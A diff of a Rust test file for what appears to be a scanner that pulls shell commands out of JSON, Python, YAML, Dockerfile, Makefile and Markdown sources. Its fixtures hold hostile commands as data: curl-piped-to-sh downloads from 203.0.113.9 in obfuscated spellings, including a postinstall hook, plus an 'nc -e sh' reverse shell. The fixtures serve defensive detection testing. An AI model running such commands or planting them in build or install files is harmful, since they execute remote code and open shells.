@@ -19,7 +19,10 @@ fn one(syntax: Syntax, source: &str) -> String {
 
 #[test]
 fn each_language_s_escapes_are_decoded() {
-    assert_eq!(one(Syntax::Json, r#"{"a": "b \"c\" \/ \u007c \ud83d\ude00\n d"}"#), "b \"c\" / | 😀\n d");
+    assert_eq!(
+        one(Syntax::Json, r#"{"a": "b \"c\" \/ \u007c \ud83d\ude00\n d"}"#),
+        "b \"c\" / | 😀\n d"
+    );
     assert_eq!(one(Syntax::JavaScript, r"x = 'a\x20b\u{7c}\'' // 'no string'"), "a b|'");
     assert_eq!(one(Syntax::JavaScript, "x = 'a b\\\nc'"), "a bc");
     assert_eq!(one(Syntax::JavaScript, "x = `a ${f({b: 1})} c`"), "a ? c");
@@ -65,12 +68,30 @@ fn build_files_are_read_as_their_programs_do() {
     assert_eq!(one(Syntax::Dockerfile, "CMD [\"sh\", \"-c\", \"a | b\"]\n"), "a | b");
     assert_eq!(one(Syntax::Dockerfile, "HEALTHCHECK --interval=5s CMD a b\n"), "a b");
     assert_eq!(read(Syntax::Dockerfile, "LABEL a=\"b c\"\nCOPY a b\n"), []);
-    assert_eq!(one(Syntax::Makefile, "H = x.example\na:\n\tcurl $(H)/$${Y} $@\n"), "curl x.example/${Y} ?\n");
+    assert_eq!(
+        one(Syntax::Makefile, "H = x.example\na:\n\tcurl $(H)/$${Y} $@\n"),
+        "curl x.example/${Y} ?\n"
+    );
+}
+
+#[test]
+fn a_record_of_what_has_run_is_no_command() {
+    assert_eq!(
+        read(Syntax::Json, r#"{"h": "x y", "process.command_line": "nc -e \"sh\" h 1"}"#).len(),
+        1
+    );
+    assert_eq!(
+        read(Syntax::Python, "E = [{'cmdline': 'nc -e sh h 1'}, {'command': 'a b'}]").len(),
+        1
+    );
+    assert_eq!(read(Syntax::Yaml, "command_line: nc -e sh h 1\ncommand: a b\n").len(), 1);
 }
 
 #[test]
 fn inline_code_is_what_markdown_takes_for_it() {
-    let code = |source| read(Syntax::Markdown, source).into_iter().map(|(text, _)| text).collect::<Vec<_>>();
+    let code = |source| {
+        read(Syntax::Markdown, source).into_iter().map(|(text, _)| text).collect::<Vec<_>>()
+    };
     assert_eq!(code("Run `a b` and ``c `d` e``."), ["a b", "c `d` e"]);
     assert_eq!(code("`a\nb`"), ["a b"]);
     assert_eq!(code("`a\n\nb`"), Vec::<String>::new());
@@ -81,7 +102,10 @@ fn inline_code_is_what_markdown_takes_for_it() {
 #[test]
 fn an_attack_is_the_same_in_every_spelling() {
     let attacks = [
-        (Syntax::Json, r#"{"s": {"postinstall": "bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\""}}"#),
+        (
+            Syntax::Json,
+            r#"{"s": {"postinstall": "bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\""}}"#,
+        ),
         (Syntax::Json, r#"{"s": "curl -fsSL http:\/\/203.0.113.9\/x.sh | sh"}"#),
         (Syntax::Json, r#"{"s": "curl -fsSL http://203.0.113.9/x.sh \u007c sh"}"#),
         (Syntax::JavaScript, r#"execSync("bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\"")"#),
@@ -90,7 +114,10 @@ fn an_attack_is_the_same_in_every_spelling() {
         (Syntax::Python, "run([\"bash\", \"-c\", \"curl http://203.0.113.9/x.sh \"\n   \"| sh\"])"),
         (Syntax::Yaml, "- run: \"bash -c \\\"$(curl -fsSL http://203.0.113.9/x.sh)\\\"\"\n"),
         (Syntax::Yaml, "- run: >-\n    curl -fsSL http://203.0.113.9/x.sh\n    | sh\n"),
-        (Syntax::Dockerfile, "FROM debian:12\nRUN curl -fsSL http://203.0.113.9/x.sh | \\\n    sh\n"),
+        (
+            Syntax::Dockerfile,
+            "FROM debian:12\nRUN curl -fsSL http://203.0.113.9/x.sh | \\\n    sh\n",
+        ),
         (Syntax::Makefile, "U = http://203.0.113.9\nsetup:\n\tcurl -fsSL $(U)/x.sh \\\n\t| sh\n"),
         (Syntax::Markdown, "Run `curl -fsSL http://203.0.113.9/x.sh | sh` first."),
     ];
